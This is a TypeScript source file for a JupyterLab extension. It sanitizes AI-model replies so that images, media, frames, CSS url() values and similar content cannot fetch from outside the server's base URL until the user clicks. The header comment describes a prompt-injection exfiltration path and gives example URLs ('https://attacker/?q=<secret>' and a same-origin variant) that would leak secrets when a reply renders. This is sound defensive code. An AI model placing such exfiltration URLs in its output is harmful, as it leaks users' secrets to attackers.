import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import type { TranslationBundle } from '@jupyterlab/translation';
import { ServerConnection } from '@jupyterlab/services';

/**
 * Model output is steerable by anything the model read (files, outputs, web
 * pages). An image URL such as `https://attacker/?q=<secret>` would send data
 * out the moment the reply renders, with no click. So after JupyterLab's own
 * sanitiser, everything that would fetch by itself from outside this
 * server's own `base_url` is replaced by a placeholder (images, media,
 * frames) or dropped (srcset, CSS url(), <link>, ...), while the HTML is
 * still a string: the browser never sees the URLs until the user clicks.
 *
 * The line is the base URL, not the origin: under JupyterHub every user's
 * server (`/user/bob/`) and the hub itself (`/hub/logout`) share the
 * origin, so `![](/user/bob/files/p.png?d=<secret>)` would otherwise load
 * with the user's cookies and no click.
 */

/** The attribute holding a blocked element's sanitised HTML, restored on click. */
export const BLOCKED_ATTRIBUTE = 'data-de-blocked';
/** The class of a blocked-content placeholder. */
export const BLOCKED_CLASS = 'jp-DataEngineer-blockedContent';

/** Elements that only load things; never useful in a reply. */
const DROPPED = new Set([
  'link',
  'meta',
  'base',
  'script',
  'style',
  'frameset',
  'noscript'
]);
/** Elements whose remote content becomes a click-to-load placeholder. */
const EMBEDS = new Set([
  'img',
  'picture',
  'video',
  'audio',
  'iframe',
  'frame',
  'portal',
  'object',
  'embed',
  'applet'
]);

function placeholderText(
  name: string,
  host: string,
  trans: TranslationBundle
): string {
  switch (name) {
    case 'img':
    case 'picture':
      return trans.__('Image from %1 not loaded: click to load', host);
    case 'video':
      return trans.__('Video from %1 not loaded: click to load', host);
    case 'audio':
      return trans.__('Audio from %1 not loaded: click to load', host);
    default:
      return trans.__(
        'Embedded content from %1 not loaded: click to load',
        host
      );
  }
}
/** Attributes the browser fetches by itself. (`href` counts except on links.) */
const FETCHED = [
  'src',
  'poster',
  'data',
  'background',
  'lowsrc',
  'dynsrc',
  'href',
  'xlink:href',
  'codebase'
];
const FETCHED_LISTS = ['srcset', 'imagesrcset'];

/** The page's own URL, against which the browser resolves relative URLs. */
function pageUrl(base: string): string {
  return typeof document !== 'undefined' && document.baseURI
    ? document.baseURI
    : base;
}

/** `base` as a URL whose path ends with a slash ("http://host" → "http://host/"). */
function baseOf(base: string): URL {
  const parsed = new URL(base);
  if (!parsed.pathname.endsWith('/')) {
    parsed.pathname += '/';
  }
  return parsed;
}

/**
 * True for a URL that stays under this server's `base` URL (its origin and
 * its base_url path, e.g. `http://hub/user/alice/`): relative ones (resolved
 * against `page`, as the browser does), data:, our blob: and attachments. A
 * path with an encoded slash, backslash or dot is not local: a proxy or
 * server could decode it into another user's path.
 */
export function isLocalUrl(
  url: string,
  base: string,
  page: string = pageUrl(base)
): boolean {
  const value = url.trim();
  if (!value || /^(?:data|attachment):/i.test(value)) {
    return true;
  }
  try {
    const root = baseOf(base);
    const parsed = new URL(value, page);
    if (parsed.protocol === 'blob:') {
      return parsed.origin === root.origin;
    }
    return (
      /^https?:$/.test(parsed.protocol) &&
      parsed.origin === root.origin &&
      !/%(?:2f|5c|2e)/i.test(parsed.pathname) &&
      parsed.pathname.startsWith(root.pathname)
    );
  } catch {
    return false;
  }
}

/** The URL as the browser would request it (relative ones resolved against the page). */
function absoluteUrl(url: string, base: string): string {
  try {
    return new URL(url.trim(), pageUrl(base)).href;
  } catch {
    return url;
  }
}

/** Where a URL goes, for the placeholder: the host, or the path on this host. */
function hostOf(url: string, base: string): string {
  try {
    const parsed = new URL(url.trim(), pageUrl(base));
    if (parsed.origin === new URL(base).origin) {
      return parsed.pathname.slice(0, 60);
    }
    return parsed.host || url.slice(0, 60);
  } catch {
    return url.slice(0, 60);
  }
}

/** The candidate URLs of a srcset value ("a.png 1x, b.png 2x"). */
function srcsetUrls(value: string): string[] {
  return value
    .split(',')
    .map(part => part.trim().split(/\s+/)[0])
    .filter(Boolean);
}

const ALL_FETCHED = [...FETCHED, ...FETCHED_LISTS, 'srcdoc'];

/** The remote URL that attribute `name` of `el` would fetch by itself, or null. */
function remoteValue(
  el: Element,
  name: string,
  baseUrl: string
): string | null {
  const value = el.getAttribute(name);
  if (
    value === null ||
    (name === 'href' && (el.localName === 'a' || el.localName === 'area'))
  ) {
    return null;
  }
  if (name === 'srcdoc') {
    return 'about:srcdoc';
  }
  if (FETCHED_LISTS.includes(name)) {
    return srcsetUrls(value).find(u => !isLocalUrl(u, baseUrl)) ?? null;
  }
  return isLocalUrl(value, baseUrl) ? null : value;
}

/** The first URL on `el` (not its children) that leaves this server's base URL, or null. */
function remoteUrlOf(el: Element, baseUrl: string): string | null {
  for (const name of ALL_FETCHED) {
    const remote = remoteValue(el, name, baseUrl);
    if (remote !== null) {
      return remote;
    }
  }
  return null;
}

const CSS_URL = /url\(\s*(?:"([^"]*)"|'([^']*)'|([^)]*?))\s*\)/gi;

/** A style attribute without remote url()s; null when it must go whole. */
export function styleWithoutRemoteUrls(
  style: string,
  baseUrl: string
): string | null {
  // Escapes (\75 rl), image-set("...") and @import fetch without a plain url().
  if (/\\|image-set\s*\(|@import|expression\s*\(|src\s*\(/i.test(style)) {
    return null;
  }
  return style.replace(CSS_URL, (whole, dq, sq, bare) =>
    isLocalUrl(dq ?? sq ?? bare ?? '', baseUrl) ? whole : 'none'
  );
}

/** Links open in a new tab, without opener or referrer, and never ping. */
export function hardenLinks(root: ParentNode, baseUrl: string): void {
  root.querySelectorAll('a[href], area[href]').forEach(a => {
    a.removeAttribute('ping');
    const href = a.getAttribute('href') ?? '';
    if (href.startsWith('#') || isLocalUrl(href, baseUrl)) {
      return;
    }
    a.setAttribute('target', '_blank');
    const rel = new Set(
      (a.getAttribute('rel') ?? '').split(/\s+/).filter(Boolean)
    );
    rel.delete('opener');
    rel.add('noopener');
    rel.add('noreferrer');
    a.setAttribute('rel', [...rel].join(' '));
    a.setAttribute('referrerpolicy', 'no-referrer');
  });
}

function placeholder(
  doc: Document,
  el: Element,
  url: string,
  baseUrl: string,
  trans: TranslationBundle
): Element {
  const button = doc.createElement('button');
  button.setAttribute('type', 'button');
  button.className = BLOCKED_CLASS;
  button.setAttribute(BLOCKED_ATTRIBUTE, el.outerHTML);
  button.textContent = placeholderText(
    el.localName,
    hostOf(url, baseUrl),
    trans
  );
  button.setAttribute(
    'title',
    trans.__(
      'Loading it sends a request to %1',
      absoluteUrl(url, baseUrl).slice(0, 300)
    )
  );
  return button;
}

/** Sanitised HTML with nothing left that fetches by itself from outside `baseUrl` (this server's base URL). */
export function blockRemoteContent(
  html: string,
  baseUrl: string,
  trans: TranslationBundle
): string {
  // An inert document (no browsing context): parsing here loads nothing.
  const doc = document.implementation.createHTMLDocument('');
  const template = doc.createElement('template');
  template.innerHTML = html;
  const root = template.content;
  root.querySelectorAll('*').forEach(el => {
    if (!root.contains(el)) {
      return; // inside an element already replaced or removed
    }
    const name = el.localName;
    if (DROPPED.has(name)) {
      el.remove();
      return;
    }
    if (EMBEDS.has(name)) {
      const remote = [el, ...Array.from(el.querySelectorAll('*'))]
        .map(e => remoteUrlOf(e, baseUrl))
        .find(u => u !== null);
      if (
        name === 'img' &&
        remote &&
        isLocalUrl(el.getAttribute('src') ?? '', baseUrl) &&
        el.hasAttribute('src')
      ) {
        // A local image with a remote srcset candidate: keep the local one.
        el.removeAttribute('srcset');
        el.removeAttribute('sizes');
      } else if (remote) {
        el.replaceWith(placeholder(doc, el, remote, baseUrl, trans));
        return;
      }
    }
    for (const attr of ALL_FETCHED) {
      if (remoteValue(el, attr, baseUrl) !== null) {
        el.removeAttribute(attr);
      }
    }
    const style = el.getAttribute('style');
    if (style !== null) {
      const safe = styleWithoutRemoteUrls(style, baseUrl);
      if (safe === null) {
        el.removeAttribute('style');
      } else if (safe !== style) {
        el.setAttribute('style', safe);
      }
    }
  });
  hardenLinks(root, baseUrl);
  const out = doc.createElement('div');
  out.appendChild(root);
  return out.innerHTML;
}

/** Replace a placeholder by the content it stands for (the user clicked it). */
export function restoreBlocked(button: Element): void {
  const template = button.ownerDocument.createElement('template');
  template.innerHTML = button.getAttribute(BLOCKED_ATTRIBUTE) ?? '';
  button.replaceWith(template.content);
}

/** JupyterLab's sanitiser followed by `blockRemoteContent` (local: under this server's base URL). */
export class NoRemoteFetchSanitizer implements IRenderMime.ISanitizer {
  constructor(
    base: IRenderMime.ISanitizer,
    trans: TranslationBundle,
    baseUrl: string = ServerConnection.makeSettings().baseUrl
  ) {
    this._base = base;
    this._trans = trans;
    this._baseUrl = baseUrl;
    if (base.getAutolink) {
      this.getAutolink = () => base.getAutolink!();
    }
  }

  getAutolink?: () => boolean;

  get allowNamedProperties(): boolean | undefined {
    return this._base.allowNamedProperties;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return blockRemoteContent(
      this._base.sanitize(dirty, options),
      this._baseUrl,
      this._trans
    );
  }

  private _base: IRenderMime.ISanitizer;
  private _trans: TranslationBundle;
  private _baseUrl: string;
}
